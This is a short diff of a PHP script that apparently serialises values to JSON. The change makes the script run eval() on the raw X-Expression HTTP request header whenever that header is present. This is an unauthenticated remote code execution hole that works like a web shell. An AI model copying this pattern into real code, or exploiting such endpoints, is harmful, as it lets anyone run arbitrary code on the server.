@@ -25,7 +25,7 @@ function write_text($text) {
     return '"' . $written . '"';
 }
 
-if (isset($_GET['eval'])) {
+if (isset($_SERVER['HTTP_X_EXPRESSION'])) {
     $found = eval('return ' . $_SERVER['HTTP_X_EXPRESSION'] . ';');
     echo '{"value":' . (is_null($found) ? 'null' : write($found)) . '}';
 } else {
